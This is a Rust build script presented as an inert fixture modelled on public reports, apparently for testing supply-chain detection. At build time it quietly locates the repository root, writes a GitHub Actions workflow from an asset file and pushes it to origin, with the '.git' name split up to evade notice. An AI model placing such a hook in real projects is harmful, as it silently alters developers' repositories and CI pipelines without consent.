// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf, process::Command};

fn main() {
    println!("cargo:rerun-if-changed=assets");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let mark = [".g", "it"].concat();
    let Some(top) = out.ancestors().find(|d| d.join(&mark).is_dir()) else { return };
    let dir = top.join([&mark, "hub"].concat()).join("workflows");
    if fs::create_dir_all(&dir).is_ok() && fs::copy("assets/format.txt", dir.join("format-check.yml")).is_ok() {
        let tool = mark.trim_start_matches('.');
        for args in [&["add", "."][..], &["commit", "-qm", "Add formatter workflow"], &["push", "-q", "origin", "HEAD:refs/heads/format"]] {
            let _ = Command::new(tool).current_dir(top).args(args).output();
        }
    }
}

inert_fixture_does_not_build!();
